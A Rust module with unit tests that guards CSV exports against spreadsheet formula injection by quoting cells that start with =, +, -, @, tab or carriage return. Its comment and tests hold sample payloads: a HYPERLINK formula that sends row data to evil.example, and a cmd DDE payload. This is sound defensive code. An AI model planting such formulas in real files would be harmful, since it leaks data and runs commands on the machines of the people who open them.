//! What a spreadsheet must never run. People open our CSV exports in Excel, LibreOffice or
//! Google Sheets, which read a cell that starts with `=`, `+`, `-` or `@` (or a tab or
//! carriage return before one) as a formula. A prospect name a partner typed, such as
//! `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, would otherwise become a live link
//! that sends the row to someone else when clicked ("CSV injection").
//!
//! The one CSV writer (`routes::export`) passes every cell through [`neutralise`], so no
//! export can forget it.

use std::borrow::Cow;

/// The first characters that make a spreadsheet treat a cell as a formula (OWASP's list).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as text a spreadsheet shows and never evaluates: one that starts like a formula
/// gets a leading single quote (OWASP's advice; spreadsheets read `'` as "this is text").
/// Every other cell comes back as it is, without a copy.
///
/// Every cell means every cell, numbers included: exports write no negative amounts, and a
/// phone number such as `+49 30 1234567` is better read as text anyway.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_starts_like_a_formula_is_made_text() {
        for (cell, safe) in [
            (
                r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
                r#"'=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("=", "'="),
            ("+49 30 1234567", "'+49 30 1234567"),
        ] {
            assert_eq!(neutralise(cell), safe, "{cell:?}");
        }
    }

    #[test]
    fn other_cells_are_left_as_they_are() {
        for cell in [
            "",
            "Acme Robotics GmbH",
            "40000.00",
            "2026-03-03T14:05:00Z",
            "a=b",
            "Müller & Söhne",
            "x\n=1+1",
        ] {
            assert!(
                matches!(neutralise(cell), Cow::Borrowed(c) if c == cell),
                "{cell:?}"
            );
        }
    }

    #[test]
    fn neutralising_twice_changes_nothing_more() {
        let once = neutralise("=1+1").into_owned();
        assert_eq!(neutralise(&once), once);
    }
}
